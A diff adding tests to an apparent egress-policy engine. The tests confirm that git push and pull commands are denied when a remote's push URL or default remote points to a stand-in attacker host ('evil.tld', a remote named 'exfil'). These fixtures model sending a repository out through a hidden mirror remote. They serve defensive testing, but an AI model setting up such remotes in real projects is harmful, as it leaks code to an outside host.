@@ -118,3 +118,21 @@ describe("DLP denials name where the secret was going", () => {
     expect(uploaded.reason).not.toContain("egress-sync request");
   });
 });
+
+describe("git remotes resolved by the CLI", () => {
+  const p = policy({ allow: ["github.com"] });
+  const ctx = { gitRemotes: { origin: "https://github.com/acme/app.git", fork: "https://github.com/me/app.git" } };
+  test("a push goes to every push URL, a fetch to the fetch URL", () => {
+    const push = { ...ctx, gitPushRemotes: { origin: ["https://github.com/acme/app.git", "https://evil.tld/mirror.git"] } };
+    expect(evaluate(shellCall("git push origin main"), p, push)).toMatchObject({ effect: "deny", destination: expect.stringContaining("evil.tld") });
+    expect(evaluate(shellCall("git fetch origin"), p, push).effect).toBe("allow");
+    expect(evaluate(shellCall("git push origin main"), p, ctx).effect).toBe("allow");
+  });
+  test("a bare push or fetch is checked against every remote the branch configuration may pick", () => {
+    const defaults = { gitRemotes: { ...ctx.gitRemotes, exfil: "git@evil.tld:x/y.git" }, gitDefaultRemotes: ["exfil"] };
+    expect(evaluate(shellCall("git push"), p, defaults)).toMatchObject({ effect: "deny", destination: expect.stringContaining("evil.tld") });
+    expect(evaluate(shellCall("git pull"), p, defaults).effect).toBe("deny");
+    expect(evaluate(shellCall("git push origin main"), p, defaults).effect).toBe("allow");
+    expect(evaluate(shellCall("git push"), p, { ...defaults, gitDefaultRemotes: ["fork"] }).effect).toBe("allow");
+  });
+});
